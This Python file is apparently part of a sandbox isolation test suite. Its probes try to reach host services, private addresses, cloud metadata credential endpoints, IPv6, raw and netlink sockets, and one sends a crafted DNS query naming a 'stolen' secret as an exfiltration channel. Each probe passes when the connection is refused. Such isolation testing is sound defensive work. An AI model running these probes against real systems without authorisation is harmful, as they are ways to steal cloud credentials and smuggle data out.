"""Attacks on what a sandbox can reach: the host's services, other machines, names, the cloud's metadata."""

import os
import socket
import stat
import struct
import sys

from services.attacking.inside.tries import Through, all_refused, read, refused

SECONDS = 1.0
# fmt: off
PLACES = (
    "192.0.2.1", "198.51.100.7", "10.0.0.1", "172.17.0.1", "172.18.0.1", "192.168.0.1", "192.168.1.1", "100.64.0.1", "0.0.0.0",
    "255.255.255.255", "host.docker.internal", "gateway.docker.internal",
)
METADATA = ("169.254.169.254", "169.254.170.2", "169.254.169.123", "100.100.100.200", "192.0.0.192", "metadata.google.internal")
SIX = ("::1", "fd00:ec2::254", "2001:db8::1", "fe80::1", "::ffff:127.0.0.1", "ff02::1")
# fmt: on
VSOCK, ALG, PACKET, XDP, BLUETOOTH, NETLINK = 40, 38, 17, 44, 31, 16


def _connected(family: int, where: "tuple[object, ...] | str | bytes", kind: int = socket.SOCK_STREAM) -> None:
    with socket.socket(family, kind) as door:
        door.settimeout(SECONDS)
        door.connect(where)  # type: ignore[arg-type]
        door.sendall(b"GET /from-the-sandbox HTTP/1.0\r\n\r\n")


def the_hosts_loopback() -> str:
    """TCP and UDP to a service of the host at 127.0.0.1."""
    port = int(sys.argv[5])
    own = ("127.0.0.1", "127.0.0.2", "0.0.0.0", "localhost")
    told = [refused("TCP", _connected, socket.AF_INET, (host, port)) for host in own]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as door:
        # A datagram to nobody goes out without a word; the trap outside says whether anybody heard it.
        door.sendto(b"from the sandbox", ("127.0.0.1", port))
    return all_refused(told)


def other_machines() -> str:
    """TCP to private, public and the engine's own addresses."""
    port = int(sys.argv[5])
    return all_refused([refused("TCP", _connected, socket.AF_INET, (place, port)) for place in PLACES])


def other_machines_by_datagram() -> str:
    """UDP to them, broadcast and multicast included."""
    told = []
    for place in (*PLACES[:8], "224.0.0.1", "239.255.255.250"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as door:
            door.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            told.append(refused("UDP", door.sendto, b"x", (place, 53)))
    return all_refused(told)


def metadata_of_the_cloud() -> str:
    """The addresses where clouds give out credentials."""
    return all_refused([refused("TCP", _connected, socket.AF_INET, (place, 80)) for place in METADATA])


def version_six() -> str:
    """All of it over IPv6."""
    try:
        socket.socket(socket.AF_INET6, socket.SOCK_STREAM).close()
    except OSError as error:
        return f"IPv6: {error.strerror}"
    port = int(sys.argv[5])
    return all_refused([refused("TCP", _connected, socket.AF_INET6, (place, port, 0, 0)) for place in SIX])


def names() -> str:
    """DNS: by the system's resolver, and by a packet of one's own that holds a secret in its name."""
    told = []
    for name in ("example.org", "stolen-secret.example.org", "localhost.localdomain.example"):
        told.append(refused("resolve", socket.getaddrinfo, name, 443))
    query = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + b"\x06stolen\x07example\x03org\x00" + struct.pack(">2H", 16, 1)
    for server in ("192.0.2.53", "169.254.169.253", "10.0.0.2"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as door:
            told.append(refused("query", door.sendto, query, (server, 53)))
    return all_refused(told)


def abstract_sockets() -> str:
    """A unix socket of the host without a path."""
    return refused("connect", _connected, socket.AF_UNIX, b"\0" + sys.argv[6].encode())


def unix_sockets() -> str:
    """Every unix socket that can be found, and the service's own by its path."""
    told = [refused("the service's", _connected, socket.AF_UNIX, sys.argv[7])]
    found = []
    for top in ("/run", "/var", "/tmp", "/dev", "/egress", "/deps", "/opt"):
        for folder, _, names in os.walk(top):
            found += [os.path.join(folder, name) for name in names if _is_socket(os.path.join(folder, name))]
    if found:
        raise Through(", ".join(found))
    return all_refused(told) + "; no other is there"


def _is_socket(path: str) -> bool:
    try:
        return stat.S_ISSOCK(os.lstat(path).st_mode)
    except OSError:
        return False


def raw_sockets() -> str:
    """Raw IP, ICMP, packets of a link."""
    def opened(family: int, kind: int, protocol: int) -> None:
        socket.socket(family, kind, protocol).close()

    return all_refused([
        refused("raw", opened, socket.AF_INET, socket.SOCK_RAW, 1),
        refused("raw UDP", opened, socket.AF_INET, socket.SOCK_RAW, 17),
        refused("packet", opened, PACKET, socket.SOCK_RAW, 0x0300),
    ])


def ways_past_the_network() -> str:
    """AF_VSOCK to the hypervisor, AF_ALG, AF_XDP, Bluetooth."""
    def opened(family: int) -> None:
        socket.socket(family, socket.SOCK_SEQPACKET if family == ALG else socket.SOCK_STREAM, 0).close()

    def raw(family: int) -> None:
        socket.socket(family, socket.SOCK_RAW, 0).close()

    return all_refused([refused("VSOCK", opened, VSOCK), refused("ALG", opened, ALG), refused("XDP", raw, XDP),
                        refused("BLUETOOTH", raw, BLUETOOTH)])  # fmt: skip


def a_link_of_ones_own() -> str:
    """netlink: an interface added."""
    header = struct.pack("=LHHLL", 48, 16, 0x0605, 1, 0)
    body = struct.pack("=BBHiII", 0, 0, 0, 0, 0, 0) + struct.pack("=HH", 16, 18) + struct.pack("=HH", 9, 1) + b"dummy\0\0\0"
    try:
        door = socket.socket(NETLINK, socket.SOCK_RAW, 0)
    except OSError as error:
        return f"netlink: {error.strerror}"
    with door:
        door.settimeout(SECONDS)
        door.sendto(header + body, (0, 0))
        told = struct.unpack_from("=i", door.recv(4096), 16)[0]
    if told == 0:
        raise Through("an interface was added")
    return f"netlink: {os.strerror(-told)}"


def interfaces() -> str:
    """What interfaces and routes there are."""
    links = [line.split(":")[0].strip() for line in read("/proc/net/dev").decode().splitlines()[2:]]
    routes = read("/proc/net/route").decode().splitlines()[1:]
    strange = [link for link in links if link not in ("lo", "tunl0", "sit0", "ip6tnl0", "gre0", "gretap0", "erspan0", "ip_vti0",
                                                      "ip6_vti0", "ip6gre0")]  # fmt: skip
    if strange or routes:
        raise Through(f"interfaces {strange}, {len(routes)} routes")
    return "loopback alone, no route"
